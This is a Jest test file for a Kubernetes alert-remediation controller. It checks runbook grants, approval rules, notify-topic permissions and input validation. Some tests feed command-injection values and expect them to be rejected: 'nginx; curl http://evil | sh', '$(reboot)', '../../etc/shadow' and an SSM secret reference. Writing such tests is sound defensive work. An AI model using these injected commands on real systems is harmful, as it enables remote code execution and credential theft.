import type { AlertPolicy, Runbook } from '../api/v1alpha1/index.js';
import { approvalTimeoutMs, grantFor, inputProblems, notifyAllowed, renderInputs, runbookProblems } from './runbook-grant.js';
import { TemplateError, type TemplateContext } from './template.js';

const runbook = (spec: Partial<Runbook['spec']> = {}): Runbook => ({
  metadata: { name: 'restart', generation: 1 },
  spec: {
    namespaceSelector: { matchLabels: { 'remediator.dev/tenant': 'true' } },
    inputs: [{ name: 'service', allowedPattern: 'nginx|php-fpm' }],
    action: { ssm: { parameters: [{ name: 'commands', values: ['systemctl restart {{ inputs.service }}'] }] } },
    ...spec,
  },
});
const policy = (spec: Partial<AlertPolicy['spec']> = {}): AlertPolicy => ({
  metadata: { name: 'p', namespace: 'team-a' },
  spec: { targets: { fromLabels: ['instance_id'] }, runbookRef: { name: 'restart' }, inputs: { service: '{{ labels.service }}' }, ...spec },
});
const tenant = { 'kubernetes.io/metadata.name': 'team-a', 'remediator.dev/tenant': 'true' };
const ctx = (labels: Record<string, string>): TemplateContext => ({
  alert: { name: 'A', source: 'generic' },
  labels,
  annotations: {},
  namespace: 'team-a',
});

describe('grantFor', () => {
  test('a missing runbook, or one whose namespaceSelector does not select the namespace, is not granted', () => {
    expect(grantFor(policy(), undefined, tenant)).toMatchObject({ ok: false, reason: 'RunbookNotFound' });
    expect(grantFor(policy(), runbook(), { 'kubernetes.io/metadata.name': 'team-a' })).toMatchObject({
      ok: false,
      reason: 'RunbookNotGranted',
      message: expect.stringContaining('namespace team-a'),
    });
    // A namespace not (yet) known is not granted: fail closed.
    expect(grantFor(policy(), runbook(), undefined)).toMatchObject({ ok: false, reason: 'RunbookNotGranted' });
    expect(grantFor(policy(), runbook({ namespaceSelector: {} }), {})).toMatchObject({ ok: true });
  });

  test('a risk below the runbook floor is refused; no risk means the floor', () => {
    expect(grantFor(policy({ risk: 'Medium' }), runbook({ minRisk: 'High' }), tenant)).toMatchObject({
      ok: false,
      reason: 'RiskBelowRunbookMinimum',
    });
    expect(grantFor(policy({ risk: 'Critical' }), runbook({ minRisk: 'High' }), tenant)).toEqual({
      ok: true,
      grant: { risk: 'Critical', approval: 'Manual' },
    });
    expect(grantFor(policy(), runbook({ minRisk: 'High' }), tenant)).toEqual({ ok: true, grant: { risk: 'High', approval: 'Manual' } });
    expect(grantFor(policy(), runbook(), tenant)).toEqual({ ok: true, grant: { risk: 'Low', approval: 'Auto' } });
  });

  test('an explicit Auto above maxAutoApprovedRisk is refused', () => {
    expect(grantFor(policy({ risk: 'Critical', approval: { mode: 'Auto' } }), runbook(), tenant)).toMatchObject({
      ok: false,
      reason: 'AutoApprovalNotAllowed',
    });
    expect(grantFor(policy({ risk: 'Medium', approval: { mode: 'Auto' } }), runbook({ maxAutoApprovedRisk: 'Medium' }), tenant)).toEqual({
      ok: true,
      grant: { risk: 'Medium', approval: 'Auto' },
    });
  });

  test('the default Auto (for Low) gives way to Manual when the runbook auto-approves nothing', () => {
    expect(grantFor(policy({ risk: 'Low' }), runbook({ maxAutoApprovedRisk: 'None' }), tenant)).toEqual({
      ok: true,
      grant: { risk: 'Low', approval: 'Manual' },
    });
    expect(grantFor(policy({ risk: 'Low', approval: { mode: 'Auto' } }), runbook({ maxAutoApprovedRisk: 'None' }), tenant)).toMatchObject({
      ok: false,
      reason: 'AutoApprovalNotAllowed',
    });
    // Manual is always allowed.
    expect(grantFor(policy({ risk: 'Low', approval: { mode: 'Manual' } }), runbook(), tenant)).toEqual({
      ok: true,
      grant: { risk: 'Low', approval: 'Manual' },
    });
  });
});

describe('notify topics are granted by the runbook', () => {
  const topic = 'arn:aws:sns:eu-west-1:111111111111:team-a-oncall';
  const theirs = 'arn:aws:sns:eu-west-1:111111111111:team-b-oncall';
  test('a policy naming a topic its runbook does not list is not granted, and may not announce', () => {
    const p = policy({ notify: { topicArn: theirs, on: ['Failed'] } });
    expect(grantFor(p, runbook({ notifyTopics: [topic] }), tenant)).toMatchObject({
      ok: false,
      reason: 'NotifyTopicNotGranted',
      message: expect.stringContaining(theirs),
    });
    expect(grantFor(p, runbook(), tenant)).toMatchObject({ ok: false, reason: 'NotifyTopicNotGranted' });
    expect(notifyAllowed(p, runbook({ notifyTopics: [topic] }), tenant)).toBe(false);
  });
  test('a granted topic is fine, but only while the namespace is granted the runbook', () => {
    const p = policy({ notify: { topicArn: topic, on: ['Failed'] } });
    expect(grantFor(p, runbook({ notifyTopics: [topic] }), tenant)).toMatchObject({ ok: true });
    expect(notifyAllowed(p, runbook({ notifyTopics: [topic] }), tenant)).toBe(true);
    expect(notifyAllowed(p, runbook({ notifyTopics: [topic] }), { 'kubernetes.io/metadata.name': 'team-a' })).toBe(false);
    expect(notifyAllowed(p, undefined, tenant)).toBe(false);
  });
});

describe('inputProblems', () => {
  test('inputs must be exactly the declared ones', () => {
    expect(inputProblems(policy(), runbook())).toEqual([]);
    expect(inputProblems(policy({ inputs: {} }), runbook())).toEqual([expect.stringContaining('inputs.service: required')]);
    expect(inputProblems(policy({ inputs: { service: 'nginx', command: 'reboot' } }), runbook())).toEqual([
      expect.stringContaining('inputs.command: Runbook "restart" declares no such input'),
    ]);
  });

  test('an input reads the alert: no inputs or enrichment inside it, and placeholders must be well formed', () => {
    expect(inputProblems(policy({ inputs: { service: '{{ inputs.service }}' } }), runbook())).toEqual([
      expect.stringContaining('cannot be used in an input'),
    ]);
    expect(inputProblems(policy({ inputs: { service: '{{ enrichment.cpu }}' } }), runbook())).toHaveLength(1);
    expect(inputProblems(policy({ inputs: { service: '{{ env.HOME }}' } }), runbook())).toEqual([
      expect.stringContaining('unknown template root'),
    ]);
  });
});

describe('renderInputs', () => {
  test('values must match the input allowedPattern as a whole, literal text included', () => {
    expect(renderInputs(policy(), runbook(), ctx({ service: 'nginx' }))).toEqual({ service: 'nginx' });
    expect(() => renderInputs(policy(), runbook(), ctx({ service: 'sshd' }))).toThrow(
      /input service.*(does not match|outside the allowlist)/,
    );
    // Anchored: a prefix match is not enough.
    expect(() => renderInputs(policy(), runbook(), ctx({ service: 'nginx2' }))).toThrow(TemplateError);
    expect(() => renderInputs(policy({ inputs: { service: 'x{{ labels.service }}' } }), runbook(), ctx({ service: 'nginx' }))).toThrow(
      /does not match/,
    );
  });

  test('without a pattern the default value rules apply', () => {
    const open = runbook({ inputs: [{ name: 'service' }] });
    expect(renderInputs(policy(), open, ctx({ service: 'my-app.service' }))).toEqual({ service: 'my-app.service' });
    for (const bad of ['--help', '../../etc/shadow', '', 'a;reboot'])
      expect(() => renderInputs(policy(), open, ctx({ service: bad }))).toThrow(/input service/);
    expect(renderInputs(policy(), runbook({ inputs: [{ name: 'service', allow: ['LeadingDash'] }] }), ctx({ service: '--now' }))).toEqual({
      service: '--now',
    });
  });

  test('literal text in a policy input is held to the input rule too, the default one when the runbook declares none', () => {
    // The runbook input has no pattern and its parameter is widened: neither widens the input.
    const open = runbook({
      inputs: [{ name: 'service' }],
      action: { ssm: { parameters: [{ name: 'commands', allowedPattern: '(?s).*', values: ['systemctl restart {{ inputs.service }}'] }] } },
    });
    for (const literal of ['nginx; curl http://evil | sh', 'nginx $(reboot)', 'nginx {{ labels.service }}; reboot']) {
      expect(() => renderInputs(policy({ inputs: { service: literal } }), open, ctx({ service: 'x' }))).toThrow(/input service/);
    }
    expect(inputProblems(policy({ inputs: { service: 'nginx; curl http://evil | sh' } }), open)).toEqual([
      expect.stringMatching(/inputs\.service: value .* does not match the allowlist/),
    ]);
    expect(inputProblems(policy({ inputs: { service: 'nginx' } }), open)).toEqual([]);
  });

  test('a policy input may not bring a Parameter Store reference the runbook does not contain, nor a control character', () => {
    const open = runbook({ inputs: [{ name: 'service', allowedPattern: '(?s).*' }] });
    const ref = policy({ inputs: { service: 'nginx {{ssm-secure:/prod/db-password}}' } });
    expect(() => renderInputs(ref, open, ctx({}))).toThrow(/Parameter Store reference/);
    expect(inputProblems(ref, open)).toEqual([expect.stringContaining('Parameter Store reference')]);
    expect(() => renderInputs(policy({ inputs: { service: 'a\nreboot' } }), open, ctx({}))).toThrow(/U\+000A/);
  });

  test('an input the policy does not set is refused', () => {
    expect(() => renderInputs(policy({ inputs: {} }), runbook(), ctx({}))).toThrow(/requires/);
  });
});

describe('runbookProblems and approvalTimeoutMs', () => {
  const docs = new Set(['AWS-RunShellScript']);
  test('finds bad regexes, undeclared inputs, documents outside the allowlist, and templates in the scope beyond the namespace', () => {
    expect(runbookProblems(runbook(), docs)).toEqual([]);
    expect(runbookProblems(runbook({ inputs: [{ name: 'service', allowedPattern: '[a-z' }] }), docs)).toEqual([
      expect.stringContaining('inputs[service].allowedPattern'),
    ]);
    expect(runbookProblems(runbook({ inputs: [] }), docs)).toEqual([
      expect.stringContaining('{{ inputs.service }} is not a declared input'),
    ]);
    expect(
      runbookProblems(
        runbook({ action: { ssm: { documentName: 'AWS-RunPowerShellScript', parameters: [{ name: 'commands', values: ['x'] }] } } }),
        docs,
      ),
    ).toEqual([expect.stringContaining('not allowed')]);
    expect(runbookProblems(runbook({ scope: { tagSelector: { team: '{{ namespace }}' } } }), docs)).toEqual([]);
    expect(runbookProblems(runbook({ scope: { tagSelector: { team: '{{ labels.team }}' } } }), docs)).toEqual([
      expect.stringContaining('only {{ namespace }}'),
    ]);
  });

  test('approval timeout defaults to an hour', () => {
    expect(approvalTimeoutMs(policy())).toBe(3_600_000);
    expect(approvalTimeoutMs(policy({ approval: { timeout: '5m' } }))).toBe(300_000);
  });
});
